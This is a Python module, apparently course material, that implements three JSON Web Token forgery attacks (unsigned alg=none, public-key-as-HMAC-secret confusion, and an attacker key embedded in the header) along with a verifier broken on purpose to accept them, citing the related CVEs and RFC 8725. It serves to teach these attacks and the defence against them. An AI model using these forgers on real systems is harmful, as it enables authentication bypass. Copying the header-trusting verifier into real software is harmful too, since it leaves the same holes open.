"""Forged JSON Web Tokens, and the broken verifier that takes them: it believes their headers.

What the attacker sees: one genuine token, and the public key with which it is verified. What he
computes: a token with claims of his choice. What he gets: those claims, verified.

    forge_unsigned           alg=none, RFC 7515's unsecured token: no signature is wanted
    forge_with_public_key    alg=HS256: the verifier's RSA key is taken for a secret, and is public
    forge_with_own_key       the key to verify with comes in the header, and is the attacker's

Each has been found in libraries in use: CVE-2015-9235 is the first two, CVE-2018-0114 the third.
RFC 8725 section 3.1 has the rule that they break: the caller says which algorithm, not the token.
For notebook 3_7_tls_and_tokens.
"""

import hmac
import json
from typing import Any

import jwt
from cryptography.hazmat.primitives.asymmetric import rsa
from jwt.utils import base64url_decode, base64url_encode

KEY_BITS = 2048
"""Of the attacker's own key, which has to last for a moment."""

Claims = dict[str, Any]


def broken_verify(token: str, public_pem: bytes) -> Claims:
    """The claims of `token`, checked in the way that its own header asks for. Broken on purpose.

    Raises jwt.InvalidSignatureError.
    """
    header = jwt.get_unverified_header(token)
    signed, _, signature = token.rpartition(".")
    if header["alg"] == "none":
        return claims_of(token)
    if header["alg"] == "HS256":
        expected = hmac.digest(public_pem, signed.encode(), "sha256")
        if not hmac.compare_digest(expected, base64url_decode(signature)):
            raise jwt.InvalidSignatureError("Signature verification failed")
        return claims_of(token)
    key = jwt.PyJWK(header["jwk"]).key if "jwk" in header else public_pem
    claims: Claims = jwt.decode(token, key, algorithms=[header["alg"]])
    return claims


def forge_unsigned(token: str, **changed: object) -> str:
    """`token` with some claims changed, and without a signature."""
    return _signed_part({"alg": "none"}, claims_of(token) | changed) + "."


def forge_with_public_key(token: str, public_pem: bytes, **changed: object) -> str:
    """`token` with some claims changed, and the public key's bytes used as a secret."""
    signed = _signed_part({"alg": "HS256"}, claims_of(token) | changed)
    signature = hmac.digest(public_pem, signed.encode(), "sha256")
    return signed + "." + base64url_encode(signature).decode()


def forge_with_own_key(token: str, **changed: object) -> str:
    """`token` with some claims changed, signed by a new RSA key that its header brings along."""
    key = rsa.generate_private_key(public_exponent=65537, key_size=KEY_BITS)
    public = jwt.algorithms.RSAAlgorithm.to_jwk(key.public_key(), as_dict=True)
    return jwt.encode(claims_of(token) | changed, key, "RS256", headers={"jwk": public})


def claims_of(token: str) -> Claims:
    """What is in `token`, for whoever holds it; nothing is verified."""
    claims: Claims = json.loads(base64url_decode(token.split(".")[1]))
    return claims


def _signed_part(header: dict[str, str], claims: Claims) -> str:
    parts = (header | {"typ": "JWT"}, claims)
    return ".".join(base64url_encode(json.dumps(part).encode()).decode() for part in parts)
